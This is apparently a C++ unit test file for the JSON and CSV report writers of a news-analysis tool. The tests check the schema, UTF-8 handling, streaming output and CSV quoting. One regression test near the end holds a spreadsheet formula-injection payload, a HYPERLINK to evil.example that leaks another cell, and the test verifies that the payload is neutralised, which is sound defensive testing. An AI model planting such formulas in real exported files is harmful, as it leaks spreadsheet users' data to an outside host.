#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <map>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "engine/report/report.h"
#include "tests/report/seed_fixture.h"
#include "tests/testutil.h"

namespace parallax {
namespace {

const std::string kSeeds = PARALLAX_SOURCE_DIR "/examples/seeds";

// Splits RFC 4180 CSV into records of fields (the reference reader for the writer).
std::vector<std::vector<std::string>> ParseCsv(const std::string& csv) {
  std::vector<std::vector<std::string>> records;
  std::vector<std::string> record;
  std::string field;
  bool quoted = false, in_quotes = false;
  for (size_t i = 0; i < csv.size(); ++i) {
    const char c = csv[i];
    if (in_quotes) {
      if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        in_quotes = false;
      } else {
        field += c;
      }
    } else if (c == '"' && field.empty() && !quoted) {
      in_quotes = quoted = true;
    } else if (c == ',') {
      record.push_back(field);
      field.clear();
      quoted = false;
    } else if (c == '\r' && i + 1 < csv.size() && csv[i + 1] == '\n') {
      record.push_back(field);
      records.push_back(record);
      record.clear();
      field.clear();
      quoted = false;
      ++i;
    } else {
      field += c;
    }
  }
  EXPECT_TRUE(record.empty() && field.empty()) << "CSV must end with CRLF";
  return records;
}

TEST(JsonReportTest, CarriesSchemaVersionAndEverySection) {
  auto model = BuildSeedFixture(kSeeds);
  ASSERT_OK(model);
  const std::string text = RenderJson(*model);
  ASSERT_EQ(text.back(), '\n');
  const nlohmann::json json = nlohmann::json::parse(text);
  EXPECT_EQ(json["schema_version"], kReportSchemaVersion);
  EXPECT_EQ(json["generator"]["version"], "0.1.0-fixture");
  EXPECT_TRUE(json["generator"]["generated_at"].is_null());
  ASSERT_EQ(json["sources"].size(), 2u);
  EXPECT_EQ(json["sources"][1]["articles"][0], "news-site-report");
  ASSERT_EQ(json["articles"].size(), 2u);
  // Sentence and mark spans index the article text, which is written once: sentences and marks
  // carry offsets, not copies of their text.
  const auto& article = json["articles"][0];
  const std::string article_text = article["text"];
  size_t marks = 0;
  for (const auto& sentence : article["sentences"]) {
    EXPECT_FALSE(sentence.contains("text"));
    const size_t start = sentence["start"], end = sentence["end"];
    EXPECT_LE(start, end);
    EXPECT_LE(end, article_text.size());
    for (const auto& mark : sentence["marks"]) {
      const size_t ms = mark["start"], me = mark["end"];
      EXPECT_EQ(mark["cue"], article_text.substr(ms, me - ms));
      EXPECT_FALSE(mark.contains("text"));
      ++marks;
    }
  }
  EXPECT_GT(marks, 30u);
  // Claims: carrying and omitting derived from the cells.
  ASSERT_EQ(json["claims"].size(), 4u);
  EXPECT_EQ(json["claims"][3]["sources_carrying"], nlohmann::json({"Firstpost"}));
  EXPECT_EQ(json["claims"][3]["sources_omitting"], nlohmann::json({"News site"}));
  EXPECT_EQ(json["claims"][1]["discrepancies"][0]["spans"][1]["text"], "Islamabad");
  ASSERT_EQ(json["profiles"].size(), 2u);
  EXPECT_EQ(json["profiles"][0]["bars"][0]["label"], "Hedges");
}

TEST(JsonReportTest, ProfilesListWhoTheOutletCites) {
  ReportModel model;
  ReportArticle article;
  article.id = "a1";
  article.source = "Outlet";
  article.text = "Munir claimed victory. Sources said so.";
  article.sentences = {{4, Span{0, 22}, 0, false, {}, ""}, {5, Span{23, 39}, 0, false, {}, ""}};
  model.articles = {article};
  ReportSourceProfile profile;
  profile.source = "Outlet";
  ReportCitedSource munir{"Asim Munir",
                          "named",
                          3,
                          2,
                          {{"neutral", 1}, {"distancing", 2}},
                          {{0, 0}},
                          {"Munir", "General Munir"}};
  // No mark for "endorsing": left out; a repeated stance is summed; a bad byte is replaced.
  ReportCitedSource sources{
      "Sources \xFF",   "anonymous",     2, 0, {{"endorsing", 0}, {"emphatic", 1}, {"emphatic", 1}},
      {{0, 0}, {0, 1}}, {"Sources \xFF"}};
  profile.cited = {munir, sources};
  ReportSourceProfile silent;
  silent.source = "Silent";
  model.profiles = {profile, silent};

  const nlohmann::ordered_json json = nlohmann::ordered_json::parse(RenderJson(model));
  ASSERT_EQ(json["profiles"].size(), 2u);
  EXPECT_EQ(json["profiles"][1]["cited"], nlohmann::ordered_json::array());
  const auto& cited = json["profiles"][0]["cited"];
  ASSERT_EQ(cited.size(), 2u);
  // Keys in a fixed order, stances in the model's order.
  const auto expected_munir = nlohmann::ordered_json::parse(R"({
      "name": "Asim Munir", "kind": "named", "count": 3, "own_voice_count": 2,
      "stances": {"neutral": 1, "distancing": 2},
      "evidence": [{"article": 0, "sentence": 0, "start": 0, "end": 22}],
      "written_as": ["Munir", "General Munir"]})");
  EXPECT_EQ(cited[0], expected_munir) << cited[0].dump(2);
  EXPECT_EQ(cited[0].dump(), expected_munir.dump());
  EXPECT_EQ(cited[1]["name"], "Sources \xEF\xBF\xBD");
  EXPECT_EQ(cited[1]["written_as"], nlohmann::ordered_json::array({"Sources \xEF\xBF\xBD"}));
  EXPECT_EQ(cited[1]["kind"], "anonymous");
  EXPECT_EQ(cited[1]["stances"].dump(), R"({"emphatic":2})");
  ASSERT_EQ(cited[1]["evidence"].size(), 2u);
  EXPECT_EQ(
      cited[1]["evidence"][1],
      nlohmann::ordered_json::parse(R"({"article": 0, "sentence": 1, "start": 23, "end": 39})"));
  // Bars' and cited sources' evidence are written alike.
  profile.bars.push_back(
      ReportProfileBar{"Stance: distancing", "attribution", 2, 1, 2, 1, {{0, 0}}});
  model.profiles = {profile};
  const auto again = nlohmann::json::parse(RenderJson(model));
  EXPECT_EQ(again["profiles"][0]["bars"][0]["evidence"],
            again["profiles"][0]["cited"][0]["evidence"]);
}

TEST(JsonReportTest, SeedProfilesCiteWhatTheirMarksCite) {
  auto model = BuildSeedFixture(kSeeds);
  ASSERT_OK(model);
  const nlohmann::json json = nlohmann::json::parse(RenderJson(*model));
  for (size_t p = 0; p < 2; ++p) {
    const auto& cited = json["profiles"][p]["cited"];
    ASSERT_FALSE(cited.empty()) << p;
    int previous = cited[0]["count"];
    for (const auto& source : cited) {
      // Most cited first; each stance's marks add up to the count (every seed mark has one).
      EXPECT_LE(source["count"].get<int>(), previous);
      previous = source["count"];
      int marks = 0;
      for (const auto& [stance, n] : source["stances"].items()) marks += n.get<int>();
      EXPECT_EQ(marks, source["count"].get<int>()) << source["name"];
      for (const auto& ref : source["evidence"]) EXPECT_EQ(ref["article"], p);
    }
  }
  EXPECT_EQ(json["profiles"][0]["cited"][0]["name"], "Munir");
}

TEST(JsonReportTest, IsDeterministicAndValidUtf8) {
  auto model = BuildSeedFixture(kSeeds);
  ASSERT_OK(model);
  EXPECT_EQ(RenderJson(*model), RenderJson(*model));
  model->articles[0].title = "bad \xFF byte";
  const nlohmann::json json = nlohmann::json::parse(RenderJson(*model));
  EXPECT_EQ(json["articles"][0]["title"], "bad \xEF\xBF\xBD byte");
}

// The document is streamed element by element; nlohmann's own compact printer, given the parsed
// document, is the reference for its bytes, with a line break before each element of the long
// arrays and before their closing brackets.
// The seed model with its articles repeated: a document of a few megabytes.
ReportModel LargeModel() {
  auto seeds = BuildSeedFixture(kSeeds);
  EXPECT_OK(seeds);
  ReportModel model = *seeds;
  for (int copy = 0; copy < 80; ++copy) {
    for (size_t a = 0; a < seeds->articles.size(); ++a)
      model.articles.push_back(seeds->articles[a]);
  }
  return model;
}

TEST(JsonReportTest, StreamedDocumentIsWhatOneDumpPrints) {
  auto seeds = BuildSeedFixture(kSeeds);
  ASSERT_OK(seeds);
  ReportModel empty_lists = *seeds;
  empty_lists.claims.clear();
  empty_lists.profiles.clear();
  ReportModel odd = BuildHostileFixture();
  odd.articles[0].text += std::string("\x01\x1f\x7f\\/\b\f\r\t\xC3\xA9\xFF", 12);
  // A valid text whose sentence and mark cut a character in two.
  ReportArticle cut;
  cut.id = "cut";
  cut.source = "S";
  cut.text = "Caf\xC3\xA9 ok.";
  ReportSentence sentence{0, Span{0, 4}, 0, false, {}, ""};
  ReportMark mark;
  mark.category = "hedge";
  mark.span = Span{4, 6};
  sentence.marks = {mark};
  cut.sentences = {sentence};
  odd.articles.push_back(cut);
  odd.claims.push_back(ReportClaim{"c", 1.0 / 3, {}, {}, ""});
  odd.claims.push_back(ReportClaim{"big", 1e21, {}, {}, "n"});
  odd.claims.push_back(ReportClaim{"nan", std::nan(""), {}, {}, ""});
  // A cited source whose stances repeat, have no marks, or are not valid UTF-8.
  odd.profiles[0].cited.push_back(
      ReportCitedSource{"who \xFF",
                        "named",
                        3,
                        1,
                        {{"neutral", 1}, {"neutral", 1}, {"x\xFF", 1}, {"no", 0}},
                        {},
                        {"who \xFF", "\xFF"}});
  for (const ReportModel& model :
       {*seeds, BuildHostileFixture(), odd, empty_lists, ReportModel(), LargeModel()}) {
    std::string streamed;
    ASSERT_OK(RenderJsonTo(model, [&](std::string_view part) {
      streamed.append(part);
      return Status::Ok();
    }));
    const auto parsed = nlohmann::ordered_json::parse(streamed);
    std::string flat = streamed;  // line breaks are never inside a string: escaped as \n there
    std::erase(flat, '\n');
    EXPECT_EQ(flat + "\n", parsed.dump() + "\n");
    size_t lines = std::count(streamed.begin(), streamed.end(), '\n');
    size_t elements = 0;
    for (const char* key : {"articles", "claims", "related", "profiles"}) {
      if (parsed.contains(key) && !parsed[key].empty()) elements += parsed[key].size() + 1;
    }
    EXPECT_EQ(lines, 5 + elements) << "a line per element";
    EXPECT_EQ(streamed, RenderJson(model));
  }
}

TEST(JsonReportTest, LargeDocumentArrivesInBoundedParts) {
  std::vector<size_t> parts;
  ASSERT_OK(RenderJsonTo(LargeModel(), [&](std::string_view part) {
    parts.push_back(part.size());
    return Status::Ok();
  }));
  EXPECT_GE(parts.size(), 4u);
  // About 256 KB each: never the whole document at once.
  for (size_t size : parts) EXPECT_LE(size, 1u << 20);
}

TEST(JsonReportTest, SinkErrorStopsTheDocument) {
  int parts = 0;
  const Status status = RenderJsonTo(LargeModel(), [&](std::string_view) {
    return ++parts < 3 ? Status::Ok() : Status::IoError("r.json: cannot write: disk full");
  });
  EXPECT_EQ(status.code(), Status::Code::kIoError);
  EXPECT_EQ(parts, 3);
}

// The records after the header as maps from column name to field.
std::vector<std::map<std::string, std::string>> Rows(
    const std::vector<std::vector<std::string>>& records) {
  std::vector<std::map<std::string, std::string>> rows;
  for (size_t r = 1; r < records.size(); ++r) {
    EXPECT_EQ(records[r].size(), records[0].size()) << r;
    std::map<std::string, std::string> row;
    for (size_t c = 0; c < records[r].size() && c < records[0].size(); ++c)
      row[records[0][c]] = records[r][c];
    rows.push_back(std::move(row));
  }
  return rows;
}

// The code points of UTF-8 `text` [from, to), as Python slices a str: the reference for the
// CSV's character offsets.
std::string CharSlice(const std::string& text, size_t from, size_t to) {
  std::string out;
  size_t index = 0;
  for (size_t i = 0; i < text.size(); ++i) {
    const bool lead = (static_cast<unsigned char>(text[i]) & 0xC0) != 0x80;
    if (lead && i > 0) ++index;
    if (index >= from && index < to) out += text[i];
  }
  return out;
}

const std::vector<std::string> kMarkColumns = {
    "article_id",     "source",      "date",      "url",          "title",    "source_words",
    "sentence_index", "claim_id",    "category",  "voice",        "cue",      "cue_start",
    "cue_end",        "entry",       "stance",    "source_kind",  "polarity", "negated",
    "cited_source",   "cited_start", "cited_end", "sentence_text"};

TEST(CsvReportTest, OneRowPerMarkWithRfc4180Quoting) {
  auto model = BuildSeedFixture(kSeeds);
  ASSERT_OK(model);
  size_t marks = 0;
  for (const auto& article : model->articles) {
    for (const auto& sentence : article.sentences) marks += sentence.marks.size();
  }
  const auto records = ParseCsv(RenderMarksCsv(*model));
  ASSERT_EQ(records.size(), marks + 1);
  EXPECT_EQ(records[0], kMarkColumns);
  for (size_t r = 1; r < records.size(); ++r)
    ASSERT_EQ(records[r].size(), kMarkColumns.size()) << r;
}

// Each row carries what a researcher groups and joins by — the article's source, date, url and
// title, its outlet's words, the claim — and character offsets that cut the cue out of the
// row's own sentence_text, as Python's str slicing does (the seeds hold curly quotes and
// dashes: byte offsets would miss).
TEST(CsvReportTest, RowsCarryArticleClaimAndCharacterOffsetsOfTheCue) {
  auto model = BuildSeedFixture(kSeeds);
  ASSERT_OK(model);
  const auto rows = Rows(ParseCsv(RenderMarksCsv(*model)));
  ASSERT_GT(rows.size(), 30u);
  size_t with_claim = 0, non_ascii = 0;
  for (const auto& row : rows) {
    const std::string& text = row.at("sentence_text");
    EXPECT_EQ(CharSlice(text, std::stoul(row.at("cue_start")), std::stoul(row.at("cue_end"))),
              row.at("cue"))
        << text;
    if (!row.at("cited_start").empty()) {
      EXPECT_EQ(CharSlice(text, std::stoul(row.at("cited_start")), std::stoul(row.at("cited_end"))),
                row.at("cited_source"));
    }
    non_ascii += std::any_of(text.begin(), text.end(), [](char c) { return c & 0x80; });
    with_claim += row.at("claim_id").empty() ? 0 : 1;
    EXPECT_FALSE(row.at("source_words").empty());
  }
  EXPECT_GT(with_claim, 0u);
  EXPECT_GT(non_ascii, 0u);
  EXPECT_EQ(rows[0].at("article_id"), model->articles[0].id);
  EXPECT_EQ(rows[0].at("title"), model->articles[0].title);
  EXPECT_EQ(rows[0].at("source_words"), std::to_string(model->profiles[0].words));
}

TEST(CsvReportTest, OffsetsInsideACharacterWidenToIt) {
  ReportModel model;
  ReportArticle article;
  article.id = "a";
  article.source = "S";
  article.text = "Caf\xC3\xA9 \xE2\x80\x9Cmay\xE2\x80\x9D.";
  ReportSentence sentence{0, Span{0, article.text.size()}, 0, false, {}, ""};
  ReportMark mark;
  mark.category = "scare_quote";
  mark.span = Span{7, 13};  // from inside the opening quote to inside the closing one
  mark.cue = "\xE2\x80\x9Cmay\xE2\x80\x9D";
  sentence.marks = {mark};
  article.sentences = {sentence};
  model.articles = {article};
  const auto rows = Rows(ParseCsv(RenderMarksCsv(model)));
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0].at("cue_start"), "5");
  EXPECT_EQ(rows[0].at("cue_end"), "10");
}

TEST(CsvReportTest, QuotesCommasQuotesAndNewlines) {
  ReportModel model;
  ReportArticle article;
  article.id = "a,1";
  article.source = "He said \"no\"";
  article.text = "Line one,\r\nline \"two\".";
  ReportSentence sentence{0, Span{0, article.text.size()}, 0, false, {}, ""};
  ReportMark mark;
  mark.category = "hedge";
  mark.span = Span{0, 4};
  mark.cue = "Line";
  sentence.marks = {mark};
  article.sentences = {sentence};
  model.articles = {article};
  const std::string csv = RenderMarksCsv(model);
  EXPECT_NE(csv.find("\"a,1\",\"He said \"\"no\"\"\",,,,,0,,hedge,,Line,0,4,,,,,false,,,,"
                     "\"Line one,\r\nline \"\"two\"\".\"\r\n"),
            std::string::npos)
      << csv;
  const auto rows = Rows(ParseCsv(csv));
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0].at("article_id"), "a,1");
  EXPECT_EQ(rows[0].at("source"), "He said \"no\"");
  EXPECT_EQ(rows[0].at("sentence_text"), article.text);
}

TEST(CsvReportTest, AttributionRowsNameTheCitedSource) {
  ReportModel model;
  ReportArticle article;
  article.id = "a";
  article.source = "Outlet";
  article.text = "Officials, \"insiders\", said it may rain.";
  ReportSentence sentence{0, Span{0, article.text.size()}, 0, false, {}, ""};
  ReportMark said;
  said.category = "attribution";
  said.span = Span{23, 27};
  said.cue = "said";
  said.source_kind = "anonymous";
  said.source = Span{0, 21};  // with a comma and quotes: the field is quoted
  ReportMark may;
  may.category = "hedge";
  may.span = Span{31, 34};
  may.cue = "may";
  sentence.marks = {said, may};
  article.sentences = {sentence};
  model.articles = {article};
  const auto rows = Rows(ParseCsv(RenderMarksCsv(model)));
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[0].at("category"), "attribution");
  EXPECT_EQ(rows[0].at("cited_source"), "Officials, \"insiders\"");
  EXPECT_EQ(rows[0].at("cited_start"), "0");
  EXPECT_EQ(rows[0].at("cited_end"), "21");
  EXPECT_EQ(rows[1].at("category"), "hedge");  // no source: empty fields
  EXPECT_EQ(rows[1].at("cited_source"), "");
  EXPECT_EQ(rows[1].at("cited_start"), "");
}

// The codebook is made from the same list as the header: every column is explained, and it says
// what the offsets count and how to undo the apostrophe rule.
TEST(CsvReportTest, CodebookExplainsEveryColumn) {
  for (CsvTable table : {CsvTable::kMarks, CsvTable::kBatchMarks, CsvTable::kBatchClaims}) {
    const std::string codebook = RenderCsvCodebook(table, "x.csv");
    const auto header = ParseCsv(CsvHeader(table));
    ASSERT_EQ(header.size(), 1u);
    for (const std::string& column : header[0])
      EXPECT_NE(codebook.find("| `" + column + "` |"), std::string::npos) << column;
    EXPECT_NE(codebook.find("emove one leading `'`"), std::string::npos);
  }
  const std::string marks = RenderCsvCodebook(CsvTable::kMarks, "x.csv");
  EXPECT_NE(marks.find("Unicode code points"), std::string::npos);
  EXPECT_NE(marks.find("open(\"x.csv\""), std::string::npos);
  EXPECT_EQ(ParseCsv(CsvHeader(CsvTable::kBatchMarks))[0][0], "story");
}

TEST(CsvReportTest, IsByteIdenticalAcrossRuns) {
  auto model = BuildSeedFixture(kSeeds);
  ASSERT_OK(model);
  EXPECT_EQ(RenderMarksCsv(*model), RenderMarksCsv(*model));
  std::string a, b;
  AppendCsvRows(CsvTable::kBatchClaims, *model, "s1", &a);
  AppendCsvRows(CsvTable::kBatchClaims, *model, "s1", &b);
  EXPECT_EQ(a, b);
}

// Reliability probe, defect 1: a source, id or sentence starting with = + - @ (or tab/CR) went
// into the CSV as is, and a spreadsheet ran it as a formula (a HYPERLINK showing "Reuters" that
// sends another cell away). Such cells now start with an apostrophe (OWASP); so does a cell that
// already started with one, so that removing one leading apostrophe gives the value back.
TEST(CsvReportTest, Issue19FormulaInjectionIsNeutralised) {
  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&N2,\"Reuters\")";
  struct Case {
    std::string value;
    std::string cell;  // as a spreadsheet reads it after RFC 4180 unquoting
  };
  const Case cases[] = {
      {hyperlink, "'" + hyperlink},    {"+1 555", "'+1 555"},  {"-2+3", "'-2+3"},
      {"@SUM(A1:A9)", "'@SUM(A1:A9)"}, {"\t=1", "'\t=1"},      {"\r=1", "'\r=1"},
      {"'quoted", "''quoted"},         {"Reuters", "Reuters"}, {"a=b", "a=b"},
  };
  for (const Case& c : cases) {
    ReportModel model;
    ReportArticle article;
    article.id = c.value;
    article.source = c.value;
    article.text = c.value + " may fall.";
    ReportSentence sentence{0, Span{0, article.text.size()}, 0, false, {}, ""};
    ReportMark mark;
    mark.category = "hedge";
    mark.span = Span{c.value.size() + 1, c.value.size() + 4};
    mark.cue = "may";
    mark.source = Span{0, c.value.size()};
    sentence.marks = {mark};
    article.sentences = {sentence};
    model.articles = {article};
    const auto records = ParseCsv(RenderMarksCsv(model));
    ASSERT_EQ(records.size(), 2u) << c.value;
    const auto rows = Rows(records);
    EXPECT_EQ(rows[0].at("article_id"), c.cell) << "article_id of " << c.value;
    EXPECT_EQ(rows[0].at("source"), c.cell) << "source of " << c.value;
    EXPECT_EQ(rows[0].at("sentence_text"), c.cell + " may fall.") << "sentence_text of " << c.value;
    EXPECT_EQ(rows[0].at("cited_source"), c.cell) << "cited_source of " << c.value;
    // No cell of the file, header included, starts with a formula character.
    for (const auto& record : records) {
      for (const std::string& cell : record) {
        ASSERT_TRUE(cell.empty() || std::string("=+-@\t\r").find(cell[0]) == std::string::npos)
            << cell;
      }
    }
  }
}

}  // namespace
}  // namespace parallax
